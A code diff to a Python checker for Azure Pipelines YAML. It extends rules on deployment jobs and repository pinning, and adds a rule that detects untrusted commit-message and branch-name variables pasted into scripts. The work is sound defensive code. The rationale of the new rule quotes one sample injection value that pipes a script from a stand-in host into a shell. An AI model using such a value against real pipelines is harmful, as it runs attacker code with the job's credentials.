@@ -8,7 +8,7 @@ from typing import Any
 from checker.documents import Document, YamlMap
 from checker.policy import Context, Violation, policy
 
-from ._helpers import is_approved, is_variable, mappings
+from ._helpers import is_approved, is_variable, mappings, text_lines
 
 _SHA = re.compile(r"^[0-9a-f]{40}$")
 DEPLOY_TASKS = re.compile(
@@ -39,6 +39,13 @@ DEPLOY_COMMANDS = re.compile(
     re.IGNORECASE,
 )
 SCRIPT_KEYS = ("script", "bash", "powershell", "pwsh")
+# Tasks that run script text, and their inputs that hold it (names in lower case, the task without its version).
+SCRIPT_INPUTS = {
+    "bash": ("script", "arguments"), "powershell": ("script", "arguments"), "cmdline": ("script",),
+    "azurecli": ("inlinescript", "scriptarguments", "arguments"), "azurepowershell": ("inline", "scriptarguments"),
+    "shellscript": ("args",), "batchscript": ("arguments",), "pythonscript": ("script", "arguments"),
+    "ssh": ("commands", "inline", "args"), "powershellontargetmachines": ("inlinescript", "scriptarguments"),
+}
 
 
 def jobs(pipeline: object) -> Iterator[tuple[YamlMap, str]]:
@@ -67,6 +74,34 @@ def job_steps(job: YamlMap) -> Iterator[YamlMap]:
                     todo.append(value)
 
 
+def step_scripts(step: YamlMap) -> Iterator[tuple[str, str, int]]:
+    """(key, script text, line of the key) of a script step (`script:`, `bash:`, `powershell:`, `pwsh:`) and
+    of the script inputs of a task that runs one (`Bash@3`'s `script`, `AzureCLI@2`'s `inlineScript`...)."""
+    for key in SCRIPT_KEYS:
+        if isinstance(step.get(key), str):
+            yield key, step[key], step.line_of(key)
+    task, inputs = step.get("task"), step.get("inputs")
+    if isinstance(task, str) and isinstance(inputs, YamlMap):
+        wanted = SCRIPT_INPUTS.get(task.partition("@")[0].strip().lower(), ())
+        for key, value in inputs.items():
+            if isinstance(key, str) and key.lower() in wanted and isinstance(value, str):
+                yield f"inputs.{key}", value, inputs.line_of(key)
+
+
+def walk(node: object, path: str = "") -> Iterator[tuple[YamlMap, str]]:
+    """Every mapping of a document with its path (`stages[0].jobs[1].steps[2]`), wherever templates,
+    `extends:` parameters or `${{ if }}` blocks nest it; a task's `inputs:` are its own, not steps."""
+    todo: list[tuple[object, str]] = [(node, path)]
+    while todo:
+        current, where = todo.pop()
+        if isinstance(current, YamlMap):
+            yield current, where
+            todo += reversed([(value, f"{where}.{key}" if where else str(key)) for key, value in current.items()
+                              if not (key == "inputs" and "task" in current)])
+        elif isinstance(current, list):
+            todo += reversed([(item, f"{where}[{i}]") for i, item in enumerate(current)])
+
+
 def deploying_step(step: YamlMap) -> str:
     """Why a step deploys ('' when it does not)."""
     task = step.get("task")
@@ -81,11 +116,10 @@ def deploying_step(step: YamlMap) -> str:
             value = next((inputs[k] for k in keys if k in inputs), default)
             if str(value).strip().lower() in deploying:
                 return f"task {task} ({value})"
-    for key in SCRIPT_KEYS:
-        if isinstance(step.get(key), str):
-            match = DEPLOY_COMMANDS.search(step[key])
-            if match:
-                return f"{key} `{' '.join(match.group(0).split())}`"
+    for key, script, _ in step_scripts(step):
+        match = DEPLOY_COMMANDS.search(script)
+        if match:
+            return f"{key} `{' '.join(match.group(0).split())}`"
     return ""
 
 
@@ -111,16 +145,22 @@ def deploying_step(step: YamlMap) -> str:
                         - task: AzureWebApp@1
                           inputs: {azureSubscription: prod, appName: web}
     """,
-    controls=["PCI-DSS-4.0:6.5.1", "PCI-DSS-4.0:6.5.4"],
     tags=["change-control"],
 )
 def deployments_use_environments(doc: Document, ctx: Context) -> Iterator[Violation]:
-    """Every `deployment:` job declares an `environment:`, and no plain `job:` deploys (a deploy task
-    such as `AzureWebApp@1`, `KubernetesManifest@1` with action deploy, `HelmDeploy@0` upgrade,
-    `TerraformTaskV4@4` apply, or `kubectl apply`/`helm upgrade`/`terraform apply` in a script).
+    """Every `deployment:` job declares an `environment:`, and no plain `job:` (nor the pipeline's own
+    top-level `steps:`, an implicit job) deploys: a deploy task such as `AzureWebApp@1`,
+    `KubernetesManifest@1` with action deploy, `HelmDeploy@0` upgrade, `TerraformTaskV4@4` apply, or
+    `kubectl apply`/`helm upgrade`/`terraform apply`/`az deployment group create` in a script step or
+    in the inline script of a task (`AzureCLI@2`'s `inlineScript`, `Bash@3`'s `script`...).
 
-    The finding points at the `deployment:` or `job:` key.
+    The finding points at the `deployment:` or `job:` key, or at the pipeline's `steps:`.
     """
+    if isinstance(doc.data, YamlMap):
+        why = next(filter(None, map(deploying_step, mappings(doc.data.get("steps")))), "")
+        if why:
+            yield Violation(f"the pipeline's steps deploy ({why}) outside a deployment job with an environment",
+                            doc.data.line_of("steps"), "steps")
     for job, resource in jobs(doc.data):
         if "deployment" in job:
             env = job.get("environment")
@@ -172,15 +212,16 @@ def _repository_issue(repo: YamlMap) -> tuple[str, str] | None:
                   name: platform/pipeline-templates
                   ref: refs/tags/v3.2.0
     """,
-    controls=["PCI-DSS-4.0:6.3.2", "PCI-DSS-4.0:6.5.1"],
     tags=["supply-chain"],
 )
 def repositories_pinned(doc: Document, ctx: Context) -> Iterator[Violation]:
     """Every entry of `resources.repositories` (the source of `template: x@alias` and of extra checkouts)
-    has a `ref:` that is `refs/tags/...` or a 40-character commit SHA. Refs written with variables are
-    not judged.
+    has a `ref:` that is `refs/tags/...` or a 40-character commit SHA, and so does every inline checkout
+    of another repository (`- checkout: git://Project/Repo@refs/tags/v1`), which needs no resource. Refs
+    written with variables are not judged.
 
-    The finding points at the `ref:`, or at the `repository:` key when there is no ref.
+    The finding points at the `ref:`, at the `repository:` key when there is no ref, or at the
+    inline `checkout:`.
     """
     resources = doc.data.get("resources") if isinstance(doc.data, YamlMap) else None
     repositories = resources.get("repositories") if isinstance(resources, YamlMap) else None
@@ -189,6 +230,15 @@ def repositories_pinned(doc: Document, ctx: Context) -> Iterator[Violation]:
         if issue:
             message, key = issue
             yield Violation(message, repo.line_of(key), f"resources.repositories[{repo.get('repository', i)}]")
+    for step, path in walk(doc.data):
+        checkout = step.get("checkout")
+        if isinstance(checkout, str) and checkout.strip().lower().startswith("git://"):
+            source, _, ref = checkout.strip().partition("@")
+            if "$(" in ref or "${{" in ref or ref.startswith("refs/tags/") or _SHA.match(ref):
+                continue
+            pinned = f"follows {ref}, a branch" if ref else "has no ref, so it follows the default branch"
+            yield Violation(f"inline checkout of {source} {pinned}; use @refs/tags/<tag> or a commit SHA",
+                            step.line_of("checkout"), f"{path}.checkout")
 
 
 def _images(pipeline: object) -> Iterator[tuple[str, int, str]]:
@@ -234,7 +284,6 @@ def _images(pipeline: object) -> Iterator[tuple[str, int, str]]:
                 - container: build
                   image: registry.example.com/ci/dotnet-sdk:8.0
     """,
-    controls=["PCI-DSS-4.0:6.3.2", "PCI-DSS-4.0:6.3.3"],
     tags=["supply-chain"],
     requires=["approved_registries"],
 )
@@ -249,3 +298,138 @@ def container_images_approved(doc: Document, ctx: Context) -> Iterator[Violation
             yield Violation(f"image {image} is not from an approved registry ({', '.join(registries)})", line, resource)
 
 
+# Predefined variables whose text whoever pushes a commit, a branch or a tag, or opens a pull request, writes
+# (lower case, as Azure Pipelines compares names): name as written in the docs, and what it holds.
+UNTRUSTED_VARIABLES = {
+    "build.sourceversionmessage": ("Build.SourceVersionMessage", "the commit message"),
+    "build.sourcebranch": ("Build.SourceBranch", "the branch or tag that triggered the run"),
+    "build.sourcebranchname": ("Build.SourceBranchName", "the branch or tag name"),
+    "system.pullrequest.sourcebranch": ("System.PullRequest.SourceBranch", "the pull request's source branch"),
+    "build.requestedfor": ("Build.RequestedFor", "the display name of whoever pushed or queued the run"),
+}
+# Not known when templates are expanded (the docs' "available in templates: no"): `${{ }}` yields '' for them.
+_RUNTIME_ONLY = frozenset({"build.sourceversionmessage", "system.pullrequest.sourcebranch"})
+_MACRO = re.compile(r"\$\(\s*([A-Za-z_][\w.\-]*)\s*\)")
+_TEMPLATE = re.compile(r"\$\{\{(.*?)\}\}")
+_RUNTIME = re.compile(r"\$\[(.*?)\]\s*$", re.DOTALL)
+_READ = re.compile(r"variables\[\s*'([^']+)'\s*\]|variables\.([A-Za-z_][\w.]*)", re.IGNORECASE)
+# Expression functions that yield true/false, not text: an expression made of one carries no text.
+_BOOLEAN = re.compile(r"^\s*(?:eq|ne|and|or|not|xor|in|notIn|contains|containsValue|startsWith|endsWith|gt|ge|lt|le|"
+                      r"succeeded|failed|always|canceled|succeededOrFailed)\s*\(", re.IGNORECASE)
+_PERCENT = re.compile(r"%([A-Za-z_][\w]*)%")
+
+
+def _expression_reads(expression: str) -> list[str]:
+    """The variables whose text an expression (`${{ }}` or `$[ ]` body) can yield; none when it only
+    yields true/false."""
+    if _BOOLEAN.match(expression):
+        return []
+    return [(m.group(1) or m.group(2)).lower() for m in _READ.finditer(expression)]
+
+
+def _reads(text: str) -> Iterator[tuple[str, str]]:
+    """(variable in lower case, how it is written) of every variable whose text is pasted into `text`
+    before it runs: macros `$(name)` and template expressions `${{ variables['name'] }}`."""
+    for match in _MACRO.finditer(text):
+        yield match.group(1).lower(), match.group(0)
+    for match in _TEMPLATE.finditer(text):
+        yield from ((name, match.group(0).strip()) for name in _expression_reads(match.group(1))
+                    if name not in _RUNTIME_ONLY)
+
+
+def _variable_definitions(pipeline: object) -> Iterator[tuple[str, str]]:
+    """(name, value) of every variable the document defines (pipeline, stage and job `variables:`, as a
+    mapping or as a list of `name:`/`value:` entries)."""
+    for node, _ in walk(pipeline):
+        block = node.get("variables")
+        if isinstance(block, YamlMap):
+            yield from ((str(name), value) for name, value in block.items() if isinstance(value, str))
+        for entry in mappings(block):
+            if isinstance(entry.get("name"), str) and isinstance(entry.get("value"), str):
+                yield entry["name"], entry["value"]
+
+
+def tainted_variables(pipeline: object) -> dict[str, str]:
+    """Every variable (lower case) that holds untrusted text, mapped to the predefined variable it comes
+    from: the untrusted predefined ones, and those the document defines from them with a macro, a
+    template expression or a runtime expression (`$[ variables['Build.SourceBranchName'] ]`)."""
+    tainted = {name: name for name in UNTRUSTED_VARIABLES}
+    definitions = list(_variable_definitions(pipeline))
+    for _ in range(len(definitions)):
+        grown = False
+        for name, value in definitions:
+            runtime = _RUNTIME.match(value.strip())
+            reads = [read for read, _ in _reads(value)] + (_expression_reads(runtime.group(1)) if runtime else [])
+            origin = next((tainted[read] for read in reads if read in tainted), None)
+            if origin and name.lower() not in tainted:
+                tainted[name.lower()], grown = origin, True
+        if not grown:
+            break
+    return tainted
+
+
+def _shown(written: str, variable: str, origin: str) -> str:
+    """How a finding names what it found: the text written, and what it holds."""
+    name, what = UNTRUSTED_VARIABLES[origin]
+    return f"`{written}` ({what})" if variable == origin else f"`{written}` (set from {name}, {what})"
+
+
+@policy(
+    id="ORG-AZP-004",
+    title="Untrusted pipeline variables are not pasted into scripts",
+    kinds=["azure-pipelines"],
+    severity="high",
+    rationale=(
+        "Azure Pipelines replaces `$(Build.SourceVersionMessage)` and `${{ }}` expressions in a script's text "
+        "before the shell runs it, so a commit message or branch name such as `x\"; curl evil.sh | sh; #` "
+        "becomes code running with the job's service connections and access token."
+    ),
+    remediation="""
+        Map the variable to an environment variable of the step and read that, quoted; the shell then
+        treats its text as data:
+
+            - bash: echo "Building $COMMIT_MESSAGE"
+              env:
+                COMMIT_MESSAGE: $(Build.SourceVersionMessage)
+    """,
+    tags=["ci-security", "injection"],
+)
+def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
+    """No script (`script:`, `bash:`, `powershell:`, `pwsh:`, and the inline script and argument inputs of
+    `Bash@3`, `PowerShell@2`, `CmdLine@2`, `AzureCLI@2`, `AzurePowerShell@5`, `PythonScript@0`, `SSH@0`,
+    `ShellScript@2`, `BatchScript@1`, `PowerShellOnTargetMachines@3`) pastes in a variable an outsider
+    writes: `Build.SourceVersionMessage`, `Build.SourceBranch`, `Build.SourceBranchName`,
+    `System.PullRequest.SourceBranch` or `Build.RequestedFor`, nor a variable the pipeline sets from one.
+
+    Macros (`$(Build.SourceVersionMessage)`) and template expressions (`${{ variables['Build.SourceBranch'] }}`,
+    `${{ replace(variables['Build.SourceBranch'], 'refs/heads/', '') }}`) are replaced in the script's text
+    before the shell parses it. A variable defined from an untrusted one (`variables:` at any level, with
+    a macro, a template expression or a runtime expression `$[ variables['Build.SourceBranchName'] ]`)
+    counts, and so does `%BUILD_SOURCEVERSIONMESSAGE%` in a Windows `script:`, which cmd.exe substitutes
+    before it parses the line.
+
+    Not reported: the environment-variable form (`$BUILD_SOURCEVERSIONMESSAGE`, `$env:BUILD_SOURCEBRANCH`)
+    and `env:` mappings, which hand the text to the shell as data; expressions that only yield true/false
+    (`${{ eq(variables['Build.SourceBranch'], 'refs/heads/main') }}`); `${{ parameters.x }}`, whose value
+    the pipeline's caller or whoever queues the run chooses, not the commit's author. Each finding points
+    at the script line that holds the variable.
+    """
+    tainted = tainted_variables(doc.data)
+    env_names = {name.upper().replace(".", "_"): name for name in tainted}
+    for step, path in walk(doc.data):
+        for key, script, start in step_scripts(step):
+            for line, piece in text_lines(script, doc.text, start, step.end_line):
+                found = [(variable, written) for variable, written in _reads(piece) if variable in tainted]
+                for variable, written in dict.fromkeys(found):
+                    origin = tainted[variable]
+                    env = variable.upper().replace(".", "_")  # every variable is also in the environment
+                    yield Violation(f"untrusted {_shown(written, variable, origin)} is pasted into the script before "
+                                    f"it runs, so its text becomes code; read it from the environment instead, "
+                                    f"quoted: \"${env}\" in bash, $env:{env} in PowerShell", line, f"{path}.{key}")
+                for match in _PERCENT.finditer(piece):
+                    named = env_names.get(match.group(1).upper())
+                    if named is not None:
+                        yield Violation(f"untrusted {_shown(match.group(0), named, tainted[named])} is "
+                                        "substituted by cmd.exe before the line is parsed, so its text becomes code; "
+                                        f"read it as $env:{match.group(1)} in a PowerShell step instead", line,
+                                        f"{path}.{key}")
